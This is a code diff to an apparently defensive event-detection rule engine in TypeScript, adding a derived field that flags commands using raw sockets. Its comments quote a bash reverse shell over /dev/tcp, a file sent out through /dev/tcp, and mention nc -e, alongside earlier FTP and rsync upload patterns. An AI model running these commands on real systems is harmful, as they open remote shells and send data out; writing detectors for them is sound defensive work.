@@ -20,6 +20,8 @@
  * commands a script feeds an FTP / SFTP / SMB client on standard input (`ftp -n h <<EOF … put f`
  * gives `ftp put f`), and `attrs.exec.copiesToRemote`: rsync / scp copying a local file to a remote
  * destination (`rsync -az /mnt/ckpt/ u@h:/x/` gives `rsync`) (exec-command-lines.ts);
+ * `attrs.exec.socketIo`: commands on a raw socket (`cat f > /dev/tcp/h/p` gives `send cat`, `bash -i
+ * >& /dev/tcp/h/p 0>&1` gives `shell bash`; exec-socket-io.ts);
  * `actorNamespace`: the namespace of a service-account actor (where its token belongs).
  * GPU-window rules use job, node, gpu, `duration` (seconds) and `<DCGM field>[.mean|.max|.min]`.
  */
@@ -206,6 +208,8 @@ const EXEC_STDIN_FROM_FILE = 'exec.stdinFromFile';
 const EXEC_CLIENT_INPUT = 'exec.clientInput';
 /** rsync / scp copying a local file to a remote destination (exec-command-lines.ts). */
 const EXEC_COPIES_TO_REMOTE = 'exec.copiesToRemote';
+/** Commands on a raw socket: bash's /dev/tcp, nc -e, a shell piped to nc (exec-socket-io.ts). */
+const EXEC_SOCKET_IO = 'exec.socketIo';
 
 /** Derived exec fields by their path below `attrs.`. */
 const EXEC_DERIVED: Readonly<Record<string, (e: EventRecord) => unknown>> = {
@@ -216,6 +220,7 @@ const EXEC_DERIVED: Readonly<Record<string, (e: EventRecord) => unknown>> = {
   [EXEC_STDIN_FROM_FILE]: canonicalListField(EXEC_STDIN_FROM_FILE, (c) => c.stdinFileTools),
   [EXEC_CLIENT_INPUT]: canonicalListField(EXEC_CLIENT_INPUT, (c) => c.clientLines),
   [EXEC_COPIES_TO_REMOTE]: canonicalListField(EXEC_COPIES_TO_REMOTE, (c) => c.remoteCopyTools),
+  [EXEC_SOCKET_IO]: canonicalListField(EXEC_SOCKET_IO, (c) => c.socketIo),
 };
 
 const TOP: Readonly<Record<string, (e: EventRecord) => unknown>> = {
